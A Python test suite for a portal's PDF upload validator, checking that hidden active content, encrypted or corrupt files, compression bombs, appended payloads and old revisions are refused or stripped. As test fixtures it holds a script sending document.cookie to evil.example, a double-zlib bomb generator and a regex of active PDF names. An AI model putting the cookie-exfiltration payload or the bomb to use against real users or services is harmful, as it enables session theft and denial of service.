"""PDF uploads (portal.uploads.pdf): parsed by pikepdf, inspected after full decoding, stored as the
re-written copy that was checked. Samples are built with pikepdf (tests/uploads/pdfs.py)."""

from __future__ import annotations

import io
import re
import tracemalloc
import zlib

import pikepdf
import pytest

from portal.uploads.documents import DocumentRejected, check_document
from portal.uploads.pdf import MAX_STREAM_DECODED
from tests.uploads import pdfs

ACTIVE_NAMES = re.compile(
    rb"JavaScript|/JS|Launch|EmbeddedFile|FileAttachment|RichMedia|XFA|AcroForm"
    rb"|SubmitForm|ImportData|GoToR|GoToE|/AA|/3D"
)


def reason_for(raw: bytes) -> str:
    with pytest.raises(DocumentRejected) as refused:
        check_document(raw)
    return refused.value.reason


def objects_seen_by_a_reader(raw: bytes) -> str:
    """Every object of the file as qpdf decodes it: what a PDF reader acts on."""
    with pikepdf.open(io.BytesIO(raw)) as pdf:
        return "\n".join(repr(value) for value in pdf.objects if value is not None)


# --- active content, plain and hidden in object streams ------------------------------------------------


@pytest.mark.parametrize("kind", sorted(pdfs.ACTIVE))
def test_active_content_is_refused(kind):
    assert reason_for(pdfs.active(kind)) == "active_content"


@pytest.mark.parametrize("packing", sorted(pdfs.FILTERS))
@pytest.mark.parametrize("kind", sorted(pdfs.ACTIVE))
def test_active_content_in_an_object_stream_behind_a_filter_chain_is_refused(kind, packing):
    raw = pdfs.hidden(pdfs.active(kind), packing)
    assert not ACTIVE_NAMES.search(raw)  # nothing for a byte search, or one inflate, to find…
    assert ACTIVE_NAMES.search(objects_seen_by_a_reader(raw).encode())  # …yet a reader finds it
    assert reason_for(raw) == "active_content"


def test_javascript_open_action_in_a_twice_compressed_object_stream_is_refused():
    """The probe of issue 9: /OpenAction -> an object in `/Filter [/FlateDecode /FlateDecode]`."""
    raw = pdfs.hidden(pdfs.active("openaction-javascript"), "flate-twice")
    with pikepdf.open(io.BytesIO(raw)) as pdf:
        assert pdf.Root.OpenAction.S == pikepdf.Name.JavaScript
    assert reason_for(raw) == "active_content"


def test_a_hidden_clean_document_is_accepted():
    """Object streams behind filters are not suspicious in themselves: only what they hold is."""
    raw = pdfs.hidden(pdfs.clean(pages=2), "ascii-hex-then-flate")
    checked = check_document(raw)
    with pikepdf.open(io.BytesIO(checked.data)) as pdf:
        assert len(pdf.pages) == 2


# --- encrypted or unreadable ---------------------------------------------------------------------------


@pytest.mark.parametrize("user_password", ["", "mat-khau"], ids=["opens-without-password", "needs-password"])
def test_encrypted_pdf_is_refused(user_password):
    pdf = pikepdf.open(io.BytesIO(pdfs.clean(pages=1)))
    raw = pdfs.saved(pdf, encryption=pikepdf.Encryption(owner="chu-so-huu", user=user_password))
    assert reason_for(raw) == "encrypted"


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(
            b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n", id="html-with-a-pdf-header"
        ),
        pytest.param(
            b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
            id="no-page-tree",
        ),
        pytest.param(b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF\n", id="binary-noise"),
    ],
)
def test_a_pdf_pikepdf_cannot_open_is_refused(raw):
    assert reason_for(raw) == "corrupt"


def test_lzw_streams_are_refused_as_unreadable():
    """qpdf decodes LZW without a memory limit: a few megabytes can expand to gigabytes."""
    pdf = pikepdf.open(io.BytesIO(pdfs.clean(pages=1)))
    lzw = b"9 0 obj << /Filter /LZW#44ecode /Length 0 >> stream\n\nendstream endobj\n%%EOF"
    raw = pdfs.saved(pdf).replace(b"%%EOF", lzw)
    assert reason_for(raw) == "corrupt"


def test_a_compression_bomb_in_an_object_stream_is_refused_without_expanding_it(monkeypatch):
    inner = zlib_bomb(200 * 1024 * 1024)  # 200 MB of zeros, compressed twice: a few hundred bytes
    assert len(inner) < 2000
    bomb = (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
        b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\n"
        + b"8 0 obj << /Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode] "
        b"/Length %d >> stream\n"
        % len(inner)
        + inner
        + b"\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )
    tracemalloc.start()
    try:
        assert reason_for(bomb) == "too_large"
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < MAX_STREAM_DECODED  # stopped at qpdf's per-stream limit, never near 200 MB


def zlib_bomb(size: int) -> bytes:
    deflater = zlib.compressobj(9)
    chunk = b"\0" * (1024 * 1024)
    once = b"".join(deflater.compress(chunk) for _ in range(size // len(chunk))) + deflater.flush()
    return zlib.compress(once, 9)


# --- what is stored ------------------------------------------------------------------------------------


def test_a_clean_multi_page_pdf_is_stored_as_a_rewritten_copy_with_its_text_intact():
    raw = pdfs.clean(pages=3)
    checked = check_document(raw)
    assert (checked.mimetype, checked.suffix) == ("application/pdf", ".pdf")
    assert checked.data != raw
    with pikepdf.open(io.BytesIO(checked.data)) as pdf:
        assert len(pdf.pages) == 3
        for number, page in enumerate(pdf.pages, start=1):
            assert f"(Trang {number} - Giay xac nhan) Tj".encode() in page.Contents.read_bytes()
            assert page.Resources.Font.F1.BaseFont == pikepdf.Name.Helvetica
        assert pdf.Root.OpenAction[1] == pikepdf.Name.Fit  # a plain "open at page 1" destination survives
        assert not pdf.is_encrypted
    assert b"/ObjStm" in checked.data  # re-written with object streams


def test_a_lossless_multi_page_scan_is_accepted_unchanged_in_its_pixels():
    """Scanned pages are images: their size is not a compression bomb's (the budget is for the rest)."""
    raw = pdfs.lossless_scan(pages=3)
    checked = check_document(raw)
    with pikepdf.open(io.BytesIO(raw)) as original, pikepdf.open(io.BytesIO(checked.data)) as stored:
        assert len(stored.pages) == 3
        for before, after in zip(original.pages, stored.pages, strict=True):
            assert after.Resources.XObject.Im0.read_bytes() == before.Resources.XObject.Im0.read_bytes()


def test_bytes_outside_the_document_are_not_stored():
    """A payload appended after %%EOF, or left in an old revision, is not part of what qpdf writes."""
    payload = b"<html><script>fetch('//evil.example/?c='+document.cookie)</script></html>"
    raw = pdfs.clean(pages=1) + b"\n" + payload + b"\n%%EOF\n"
    checked = check_document(raw)
    assert payload not in checked.data and b"<script>" not in checked.data


def test_an_old_revision_is_not_stored():
    raw = pdfs.clean(pages=1)
    with pikepdf.open(io.BytesIO(raw)) as pdf:
        pdf.docinfo["/Title"] = "Ban cu: so CCCD 001234567890"
        first = pdfs.saved(pdf, static_id=True)
    # An incremental update that replaces the information dictionary: readers show the new one.
    update = (
        b"\n99 0 obj << /Title (Ban moi) >> endobj\ntrailer << /Root 1 0 R /Info 99 0 R /Size 100 >>\n%%EOF\n"
    )
    checked = check_document(first + update)
    assert b"001234567890" not in checked.data
